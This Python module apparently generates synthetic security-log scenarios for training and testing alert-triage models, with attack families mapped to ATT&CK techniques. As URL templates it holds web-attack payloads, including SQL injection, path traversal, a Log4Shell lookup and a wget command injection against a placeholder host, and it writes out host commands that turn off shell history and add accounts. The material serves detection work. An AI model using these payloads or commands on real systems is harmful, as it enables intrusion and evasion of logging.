"""Attacks and sweeps from outside, and what follows them on the host.

Their rules lead to `block_ip`: a source on the internet is at work on one host. In half of a story that goes on (the suspicious
strength) what follows is hostile and the traffic before it is the internet's usual noise.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from functools import partial

from schema import ACCOUNT_WORK, Category
from tasks.families.linux import sh
from tasks.families.mail import OPENED, UNFILTERED
from tasks.families.story import (
    ADDRESS,
    GRAVE,
    POWERSHELL,
    PROBE,
    SYSTEM32,
    Actor,
    Family,
    FamilySplit,
    Platform,
    actor,
    attack,
    choose_prober,
    knock,
    other_account,
    probe,
    trail,
)
from tasks.families.tellings import Row, Telling, each, made, order, tell
from tasks.families.tenants import CONDITIONED, KEYED, TAKEN_OUT
from tasks.families.traffic import NO_TUNNELS, TRANSFERRED, TUNNELS, odd_names
from tasks.scene import Explanation, Plan, Scene, TicketScope

Sequel = tuple[Sequence[Telling], Sequence[Telling]]  # hostile and harmless
Assault = Callable[..., float]  # scene, time, target, source, hostile=...; returns the last line's time

# ---------------------------------------------------------------- attacks on web applications (OWASP Top Ten 2021, A01, A03 and A05)
FORM_URLS = (
    "/{}/login?user={}'%20or%20'1'='1",
    "/{}?id=7%20UNION%20ALL%20SELECT%20name,2,3",
    "/{}?id=7;exec%20xp_cmdshell%20'dir'",
    "/{}?q={}%22%20or%201=1--",
    "/api/{}?sort=(select%201%20from%20{})%20union%20select%20{}",
)
FILE_URLS = (
    "/{}?file=../../../../etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2f{}",
    "/{}/.env",
    "/.git/config",
    "/{}/..%2f..%2f..%2f{}.ini",
    "/download?name=....//../../{}",
)
PROXY_URLS = (
    "/{}/..;/..;/../../{}.jsp",
    "/{}?page=../../../{}",
    "/{}.aspx?id=1%20union%20all%20select%20{}",
    "/{}/.git/HEAD",
    "/api/{}?name='%20or%20'{}'%20like%20'{}",
)
CODE_URLS = (
    "/{}?x=${jndi:ldap://{}.net/a}",
    "/search?q=<script>{}()</script>",
    "/index.php?page=php://input&{}",
    "/cgi-bin/{}?host=;%20wget%20http://{}.net/a",
    "/{}?cmd=|/bin/sh%20-c%20{}",
    "/{}.php?c=eval({})",
    "/{}?run=cmd.exe%20/c%20{}",
)


def _burst(
    name: str,
    technique: str,
    category: Category,
    rule: str,
    assault: Assault,
    explanations: tuple[Explanation, ...] = (),
    split: FamilySplit = "train",
) -> Family:
    """Make a family of one burst: from outside, from another host of ours (suspicious), or by an authorised scanner."""

    def play(scene: Scene, plan: Plan) -> TicketScope:
        host, ip, source = choose_prober(scene, plan)
        first = scene.moment(1000)
        last = assault(scene, first, Actor(host, ip, ""), source, hostile=plan.strength != "below")
        return TicketScope((host,), "", "", first, last)

    return Family(
        name,
        technique,
        category,
        play,
        ADDRESS,
        explanations=explanations,
        single=True,
        names_account=False,
        rules=(rule,),
        platform="network",
        split=split,
        most_lines=29,
    )


def _followed(
    name: str,
    technique: str,
    category: Category,
    rules: tuple[str, str],
    assault: Assault,
    sequel: Sequel,
    *,
    platform: Platform = "windows",
    split: FamilySplit = "train",
) -> Family:
    """Make a family of an assault from outside, and what is suspicious on that host after it.

    Args:
        rules: the rule of what follows, and the assault's.
        sequel: hostile and harmless tellings of what follows.
    """

    def play(scene: Scene, plan: Plan) -> TicketScope:
        who, first = actor(scene, plan), scene.moment(1500)
        end = assault(scene, first, who, scene.public_address(), hostile=plan.strength == "confirmed")
        telling = scene.pick(sequel[plan.strength == "below"])
        _, last = tell(scene, who, telling, end + scene.between(20, 300))
        return who.scope("", first, last)

    return Family(
        name,
        technique,
        category,
        play,
        ADDRESS,
        explanations=(),
        names_account=assault is stop_trail,
        rules=rules,
        platform=platform,
        split=split,
        most_lines=32,
    )


def _only(step: tuple[Telling, Telling]) -> Sequel:
    """Make a sequel of one hostile and one harmless telling."""
    return [step[0]], [step[1]]


def attack_with(*urls: str) -> Assault:
    """Return the assault that sends some requests."""
    return partial(attack, urls=urls)


def attack_by_proxy(scene: Scene, at: float, target: Actor, source: str, *, hostile: bool) -> float:
    """Write how a source attacks a web application slowly, as the proxy before it sees it, or many sources once; return the last line's time."""
    for _ in range(scene.between(5, 8)):
        at = scene.add(
            at + scene.between(60, 110),
            "http",
            "request",
            url=f"https://{target.host.lower()}.corp.example{scene.pick(PROXY_URLS).replace('{}', scene.word())}",
            http_method=scene.pick(("GET", "HEAD", "PUT")),
            status_code=scene.pick((200, 302, 400, 401)),
            src_ip=source if hostile else scene.public_address(),
            dst_ip=target.ip,
        )
    return at


def knock_by_gateway(scene: Scene, at: float, target: Actor, source: str, *, hostile: bool) -> float:
    """Write the knocks at a remote desktop as a gateway sees them, by the target's name; return the last line's time."""
    for _ in range(scene.between(27, 29)):
        at = scene.add(
            at + scene.between(2, 8),
            "logon",
            "rdp_session",
            target_hostname=target.host,
            auth_protocol=scene.pick(("NLA", "TLS")),
            src_ip=source if hostile else scene.public_address(),
        )
    return at


def stop_trail(scene: Scene, at: float, target: Actor, source: str, *, hostile: bool) -> float:
    """Write how an account stops the cloud's trail and makes another's key, or looks and makes its own; return the last line's time."""
    last = trail(scene, at, target, source, hostile)
    return scene.add(
        last + scene.between(20, 600),
        "account",
        "key_create",
        target.host,
        target.user,
        user_name=other_account(scene, target) if hostile else target.user,
        attributes="access key",
        src_ip=source,
    )


# ---------------------------------------------------------------- what follows, hostile and harmless
def account_row(name: str, attributes: str, activity: str = "create") -> Row:
    return Row("account", activity, {"user_name": name, "attributes": attributes}, after=(60, 600))


def _lived(made_up: str, removed: str, attributes: str = "SAM account enabled") -> Telling:
    return [account_row(made_up, attributes), account_row(removed, "SAM account removed", "delete")]


def _logon(activity: str, **fields: object) -> Row:
    return Row("logon", activity, {"user_name": "{user}", **fields}, user="")


SHORT_LIVED = ([_lived("{word}.{word2}", "{word}.{word2}")], [_lived("{word}.{word2}", "{other_user}")])
BORROWED = (
    each(
        _logon("success", logon_type=9, logon_process="seclogo", auth_protocol="Negotiate", src_ip="127.0.0.1"),
        _logon("success", logon_type=3, logon_process="Kerberos", auth_protocol="Kerberos", src_ip="127.0.0.1"),
    ),
    each(
        _logon("success", logon_type=9, logon_process="Advapi", auth_protocol="Negotiate", src_ip="127.0.0.1"),
        _logon("success", logon_type=3, logon_process="Kerberos", auth_protocol="Kerberos", src_ip="{other_ip}"),
    ),
)


def _lent(name: str) -> list[Telling]:
    """Tell of a shell that is given the password of an account."""
    fields = {
        "user_name": name,
        "target_hostname": "{other_host}",
        "process_path": (POWERSHELL, SYSTEM32 + "cmd.exe", SYSTEM32 + "wbem\\wmic.exe"),
    }
    return each(Row("logon", "explicit_credentials", fields))


LENT = (_lent("{other_user}"), _lent("{user}"))
UNRECORDED = (
    each(sh("unset HISTFILE", "/usr/bin/sudo"), sh("set +o history", "/usr/bin/sudo")),
    each(sh("unset {word}", "/usr/bin/sudo"), sh("set -o history", "/usr/bin/sudo")),
)


def _reads(*names: str) -> Telling:
    """Tell of directory objects that an account reads."""
    return [
        Row(
            "directory",
            "access",
            {
                "object_dn": f"CN={name},OU=Staff,DC=corp,DC=example",
                "object_type": "user",
                "properties": "Read Property",
                "access_mask": "0x10",
            },
            after=(1, 7),
        )
        for name in names
    ]


READ_OBJECTS = (
    [_reads(*(f"{{word{number}}}" for number in range(13)))],
    [_reads(*("{word1}", "{word2}") * 6, "{word1}")],
)


FAMILIES: tuple[Family, ...] = (
    _burst("injected_form", "T1190", "initial_access", "web-attack", attack_with(*FORM_URLS), PROBE),
    _burst("fetched_secrets", "T1190", "initial_access", "web-attack", attack_with(*FILE_URLS)),
    _burst("injected_code", "T1190", "initial_access", "web-attack", attack_with(*CODE_URLS)),
    _burst("knocked_desktop", "T1046", "discovery", "sign-in-sweep", knock, PROBE),
    _followed(
        "passing_account",
        "T1136",
        "persistence",
        ("odd-account", "web-attack"),
        attack_with(*FORM_URLS, *CODE_URLS),
        SHORT_LIVED,
    ),
    _followed(
        "borrowed_session",
        "T1550.002",
        "lateral_movement",
        ("borrowed-logon", "service-probing"),
        probe,
        BORROWED,
    ),
    _followed(
        "read_directory",
        "T1087.002",
        "discovery",
        ("ticket-sweep", "web-attack"),
        attack_with(*CODE_URLS),
        READ_OBJECTS,
    ),
    _followed(
        "tunnelled_back",
        "T1572",
        "command_and_control",
        ("traffic-forwarded", "web-attack"),
        attack_with(*FILE_URLS, *CODE_URLS),
        (
            [[order("/usr/bin/ssh", *TUNNELS, parent="/usr/bin/bash")]],
            [[order("/usr/bin/ssh", *NO_TUNNELS, parent="/usr/bin/bash")]],
        ),
        platform="linux",
    ),
    _followed(
        "unrecorded_shell",
        "T1070.003",
        "defense_evasion",
        ("shell-history-off", "service-probing"),
        probe,
        UNRECORDED,
        platform="linux",
    ),
    _followed(
        "fetched_by_job",
        "T1197",
        "command_and_control",
        ("transfer-job", "sign-in-sweep"),
        knock,
        TRANSFERRED,
    ),
    _followed(
        "keyed_application",
        "T1098.001",
        "persistence",
        ("tenant-token-made", "cloud-trail-stopped"),
        stop_trail,
        _only(KEYED),
        platform="cloud",
    ),
    _followed(
        "loosened_sign_in",
        "T1556.009",
        "defense_evasion",
        ("tenant-guard-weakened", "cloud-trail-stopped"),
        stop_trail,
        _only(CONDITIONED),
        platform="cloud",
    ),
    _followed(
        "drained_tenant",
        "T1114.003",
        "collection",
        ("tenant-data-out", "cloud-trail-stopped"),
        stop_trail,
        _only(TAKEN_OUT),
        platform="cloud",
    ),
    _followed(
        "opened_mailbox_unseen",
        "T1098.002",
        "persistence",
        ("mailbox-opened", "cloud-trail-stopped"),
        stop_trail,
        _only(OPENED),
        platform="cloud",
    ),
    _followed(
        "uncovered_mailboxes",
        "T1562.001",
        "defense_evasion",
        ("mail-guard-removed", "cloud-trail-stopped"),
        stop_trail,
        _only(UNFILTERED),
        platform="cloud",
    ),
    _followed(
        "names_from_site",
        "T1568.002",
        "command_and_control",
        ("many-odd-names", "web-attack"),
        attack_with(*CODE_URLS),
        ([odd_names("{{domain}}")], [odd_names("{{domain{}}}")]),
        platform="network",
    ),
    _followed(
        "added_account",
        "T1136.001",
        "persistence",
        ("account-command", "sign-in-sweep"),
        knock,
        (
            [[order("net.exe", "user {word} {hex} /add", "localgroup {word2} {word} /add")]],
            [[order("net.exe", "user {word} /times:all", "localgroup {word2} {word} /delete")]],
        ),
    ),
    # ---------------------------------------------------------------- for choosing models
    _burst("proxied_attack", "T1190", "initial_access", "web-attack", attack_by_proxy, split="val_family"),
    _followed(
        "guest_account",
        "T1136",
        "persistence",
        ("odd-account", "sign-in-sweep"),
        knock_by_gateway,
        SHORT_LIVED,
        split="val_family",
    ),
    _followed(
        "probed_tunnel",
        "T1572",
        "command_and_control",
        ("traffic-forwarded", "service-probing"),
        probe,
        ([[order("D:\\Tools\\plink.exe", *TUNNELS)]], [[order("D:\\Tools\\plink.exe", *NO_TUNNELS)]]),
        split="val_family",
    ),
    # ---------------------------------------------------------------- for testing
    _burst("gateway_knocks", "T1046", "discovery", "sign-in-sweep", knock_by_gateway, split="test_family"),
    _followed(
        "probed_directory",
        "T1087.002",
        "discovery",
        ("ticket-sweep", "service-probing"),
        probe,
        READ_OBJECTS,
        split="test_family",
    ),
    _followed(
        "borrowed_password",
        "T1550.002",
        "lateral_movement",
        ("borrowed-logon", "web-attack"),
        attack_by_proxy,
        LENT,
        split="test_family",
    ),
    # ---------------------------------------------------------------- accounts and sign-ins
    made(
        "disguised_account",
        "T1136",
        "persistence",
        ("odd-account",),
        ACCOUNT_WORK,
        confirmed=[_lived("{other_host}$", "{other_user}", "set: normal account")],
        suspicious=[_lived("{word}.{word2}", "{word}.{word2}", "set: normal account")],
        below=[
            _lived("{other_host}$", "{other_user}", "set: workstation trust account"),
            _lived("{word}.{word2}", "{other_user}", "set: normal account"),
        ],
        reaches=GRAVE,
    ),
    made(
        "passed_logon",
        "T1550.002",
        "lateral_movement",
        ("borrowed-logon",),
        suspicious=BORROWED[0],
        below=BORROWED[1],
        explanations=(),
    ),
)
